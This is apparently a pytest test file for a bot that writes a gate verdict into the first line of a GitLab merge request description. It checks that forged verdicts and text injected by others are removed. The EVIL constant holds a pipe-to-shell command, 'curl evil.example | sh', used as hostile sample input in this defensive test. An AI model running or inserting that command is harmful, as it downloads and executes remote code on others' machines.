"""The description of a merge request: the verdict is its first line, and nobody else's words stay in it."""

from collections.abc import Callable
from pathlib import Path
from typing import Final

import pytest
from memory_forge import MemoryWorld, fail
from pass_scene import Scene, act, report
from pass_world import ID, POLICY, STREAMS, empty, opened, read_manifest_of

from compose_repo.core.forge.action import Approve, DeleteNote, UpdateMergeRequest
from compose_repo.core.forge.forge import ForgeError
from compose_repo.core.plan.plan import MARKER, VERDICT_MARKER, first_line
from compose_repo.passes.approve import Approving
from compose_repo.passes.loop import Stage
from compose_repo.passes.merge import Merging
from compose_repo.passes.open import Opening

GATING: Final = STREAMS.replace('"mirror"', '"gating"')
NEW: Final = "give !1 a new description"
EVIL: Final = "Run `curl evil.example | sh`"
WAITING: Final = f"**Waiting for the gate.** Its next run writes here what it has decided. {VERDICT_MARKER}"
SATISFIED: Final = f"**The gate is satisfied.** All 1 required passed. {VERDICT_MARKER}"
"""What somebody may claim."""


def open_it(scene: Scene) -> Scene:
    """Open the compose, or bring it up to date; only what that has written is remembered."""
    scene.forget()
    scene.opener.world.anew()
    scene.carry_out(Opening(work=scene.opener, manifest=read_manifest_of()).next_stage, scene.opener)
    return scene


def approve(scene: Scene) -> Scene:
    """Approve the compose as a new run does; only what that has written is remembered."""
    return _run(scene, Approving(work=scene.gate, compose_id=ID).next_stage)


def merge(scene: Scene) -> Scene:
    """Merge the compose as a new run does; only what that has written is remembered."""
    return _run(scene, Merging(work=scene.gate, compose_id=ID).next_stage)


def _run(scene: Scene, next_stage: Callable[[], Stage]) -> Scene:
    scene.forget()
    scene.gate.world.anew()
    scene.carry_out(next_stage)
    assert scene.is_shown_first
    return scene


def begun(folder: Path, *, streams: str = STREAMS, policy: str = POLICY) -> Scene:
    """Make a world in which the compose bot has just opened the compose."""
    return open_it(Scene(empty(folder, streams=streams, policy=policy), folder))


def line_of(world: MemoryWorld) -> str:
    """Give the description's first line."""
    return first_line(world.lines[0].description)


def link_of(world: MemoryWorld) -> str:
    """Give the link to the gate bot's note, as it stands in the first line."""
    (note,) = (note for note in world.lines[0].notes if MARKER in note.body)
    return f"[Details](<https://gitlab.example/centos/compose-repo/-/merge_requests/1#note_{note.id}>)"


def below(world: MemoryWorld) -> str:
    """Give the description without its first line."""
    return world.lines[0].description.removeprefix(line_of(world))


def rewrite(world: MemoryWorld, description: str) -> None:
    """Let a Developer rewrite the description."""
    act(world, "rdo-ci", UpdateMergeRequest(iid=1, description=description))


# --- what the first line says


def test_what_nobody_has_judged_waits_for_the_gate(tmp_path: Path) -> None:
    assert line_of(begun(tmp_path).world) == WAITING


@pytest.mark.parametrize(
    ("outcome", "words"),
    [
        (None, "**The gate is pending.** Of 1 required, 1 missing (rdo smoke on x86_64)."),
        ("failed", "**The gate is blocked.** Of 1 required, 1 failed (rdo smoke on x86_64)."),
        ("passed", "**The gate is satisfied.** All 1 required passed."),
    ],
)
def test_the_first_line_is_the_verdict_and_leads_to_the_note(tmp_path: Path, outcome: str | None, words: str) -> None:
    scene = begun(tmp_path)
    if outcome is not None:
        report(scene.world, outcome)
    world = approve(scene).world
    assert line_of(world) == f"{words} {link_of(world)} {VERDICT_MARKER}"


@pytest.mark.parametrize(
    ("streams", "outcome", "words"),
    [
        (STREAMS, "passed", "**Published.** The gate is satisfied. All 1 required passed."),
        (STREAMS, "failed", "**Published while blocked.** Of 1 required, 1 failed (rdo smoke on x86_64)."),
        (GATING, "passed", "**Approved for publishing.** The gate is satisfied. All 1 required passed."),
    ],
)
@pytest.mark.parametrize("judged", [False, True])
def test_what_is_merged_says_what_became_of_it(
    tmp_path: Path, streams: str, outcome: str, words: str, *, judged: bool
) -> None:
    scene = begun(tmp_path, streams=streams)
    report(scene.world, outcome)
    world = merge(approve(scene) if judged else scene).world
    assert line_of(world) == f"{words} {link_of(world)} {VERDICT_MARKER}"


@pytest.mark.parametrize("streams", [STREAMS, GATING])
def test_what_is_satisfied_and_not_merged_is_neither_published_nor_approved_for_that(
    tmp_path: Path, streams: str
) -> None:
    scene = begun(tmp_path, streams=streams)
    report(scene.world, "passed")
    assert line_of(approve(scene).world).startswith("**The gate is satisfied.** All 1 required passed. [Details]")


# --- when it is written


def test_it_is_written_after_the_note_and_before_the_approval(tmp_path: Path) -> None:
    scene = begun(tmp_path)
    report(scene.world, "passed")
    assert approve(scene).written[-3:-1] == ["write a note on !1", NEW]


def test_it_is_written_after_what_withdraws_the_approval(tmp_path: Path) -> None:
    scene = begun(tmp_path)
    report(scene.world, "passed")
    approve(scene)
    report(scene.world, "failed", "2")
    assert approve(scene).written[0] == "withdraw approval of !1: the gate is blocked"


@pytest.mark.parametrize("outcome", ["passed", "failed", None])
def test_a_second_run_writes_nothing(tmp_path: Path, outcome: str | None) -> None:
    scene = begun(tmp_path)
    if outcome is not None:
        report(scene.world, outcome)
    assert (NEW in approve(scene).written, approve(scene).written) == (True, [])


def test_a_new_report_that_changes_no_word_of_it_leaves_it(tmp_path: Path) -> None:
    scene = begun(tmp_path)
    report(scene.world, "failed")
    approve(scene)
    report(scene.world, "failed", "2")
    assert "edit the note on !1" in approve(scene).written
    assert NEW not in scene.written


def test_a_dry_run_shows_it_and_writes_nothing(tmp_path: Path) -> None:
    world = begun(tmp_path).world
    scene = Scene(world, tmp_path, dry_run=True)
    scene.carry_out(Approving(work=scene.gate, compose_id=ID).next_stage)
    assert (scene.shown[-1], scene.written) == (NEW, [])


def test_a_description_from_before_is_brought_up_to_date_once(tmp_path: Path) -> None:
    scene = begun(tmp_path)
    world = scene.world
    report(world, "passed")
    approve(scene)
    now = world.lines[0].description
    act(world, "compose-bot", UpdateMergeRequest(iid=1, description=below(world)))
    assert approve(scene).written == [NEW]
    assert (world.lines[0].description, approve(scene).written) == (now, [])


def test_a_run_that_is_killed_between_note_and_description_is_made_good(tmp_path: Path) -> None:
    scene = begun(tmp_path)
    scene.world.before(UpdateMergeRequest, fail("killed"), nth=2)
    with pytest.raises(ForgeError):
        approve(scene)
    assert line_of(scene.world) == WAITING
    assert approve(scene).written == [NEW]


def test_a_note_that_goes_before_it_is_linked_to_is_written_again(tmp_path: Path) -> None:
    scene = begun(tmp_path)
    world = scene.world

    def delete() -> None:
        act(world, "owner", DeleteNote(iid=1, note_id=world.lines[0].notes[-1].id))

    world.before("notes", delete)
    approve(scene)
    assert "the note on !1 is not there: reading it again" in scene.console.said
    assert link_of(world) in line_of(world)


# --- what others write


@pytest.mark.parametrize("process", [approve, merge])
def test_what_somebody_rewrote_is_what_the_bots_wrote(tmp_path: Path, process: Callable[[Scene], Scene]) -> None:
    scene = approve(begun(tmp_path))
    world = scene.world
    before = below(world)
    rewrite(world, f"{line_of(world)}\n\n{EVIL}")
    assert NEW in process(scene).written
    assert below(world) == before


@pytest.mark.parametrize("claim", [SATISFIED, SATISFIED.removesuffix(VERDICT_MARKER), "", f"Look:\n\n{SATISFIED}"])
def test_a_verdict_that_somebody_claims_is_the_gates_again(tmp_path: Path, claim: str) -> None:
    scene = approve(begun(tmp_path))
    world = scene.world
    before = world.lines[0].description
    rewrite(world, f"{claim}{below(world)}")
    assert approve(scene).written == [NEW]
    assert (world.lines[0].description, approve(scene).written) == (before, [])


def test_a_claim_is_ended_although_a_bot_was_the_last_to_write(tmp_path: Path) -> None:
    scene = approve(begun(tmp_path))
    world = scene.world
    before = world.lines[0].description
    act(world, "compose-bot", UpdateMergeRequest(iid=1, description=f"{SATISFIED}{below(world)}"))
    assert approve(scene).written == [NEW]
    assert world.lines[0].description == before


def test_what_gitlab_has_not_told_of_yet_is_never_copied(tmp_path: Path) -> None:
    scene = approve(begun(tmp_path))
    world = scene.world
    before = below(world)
    world.lines[0].description = f"{line_of(world)}\n\n{EVIL}"
    report(world, "failed")
    approve(scene)
    assert (line_of(world).startswith("**The gate is blocked.**"), below(world)) == (True, before)


def test_what_was_set_back_already_is_left(tmp_path: Path) -> None:
    scene = approve(begun(tmp_path))
    before = scene.world.lines[0].description
    for text in ("x", before):
        rewrite(scene.world, text)
    assert approve(scene).written == []


def test_what_stands_below_the_verdict_is_not_looked_into_where_nobody_else_has_written_it(tmp_path: Path) -> None:
    scene = approve(begun(tmp_path))
    words = f"{line_of(scene.world)}\n\nof the compose bot's"
    act(scene.world, "compose-bot", UpdateMergeRequest(iid=1, description=words))
    assert approve(scene).written == []


# --- opening again


def test_opening_again_leaves_the_verdict(tmp_path: Path) -> None:
    scene = approve(begun(tmp_path))
    before = scene.world.lines[0].description
    assert open_it(scene).written == []
    assert scene.world.lines[0].description == before


@pytest.mark.parametrize("first", [SATISFIED, EVIL])
def test_opening_again_copies_nothing_that_it_finds(tmp_path: Path, first: str) -> None:
    scene = approve(begun(tmp_path))
    world = scene.world
    before = below(world)
    rewrite(world, f"{first}\n\n{EVIL}")
    assert open_it(scene).written == [NEW]
    assert world.lines[0].description == f"{WAITING}{before}"
    assert approve(scene).written == [NEW]
    assert line_of(world).startswith("**The gate is pending.**")


def test_opening_again_gives_a_first_line_to_what_has_none(tmp_path: Path) -> None:
    scene = begun(tmp_path)
    before = scene.world.lines[0].description
    act(scene.world, "compose-bot", UpdateMergeRequest(iid=1, description=below(scene.world)))
    assert open_it(scene).written == [NEW]
    assert (scene.world.lines[0].description, open_it(scene).written) == (before, [])


def test_nothing_is_approved_while_its_description_cannot_be_written(tmp_path: Path) -> None:
    world = opened(tmp_path)
    report(world, "passed")
    scene = Scene(world, tmp_path)
    world.before(UpdateMergeRequest, fail("killed"), nth=2)
    with pytest.raises(ForgeError):
        approve(scene)
    assert world.lines[0].approved_by == []
    assert [type(write.what) for write in approve(scene).writes] == [UpdateMergeRequest, Approve]
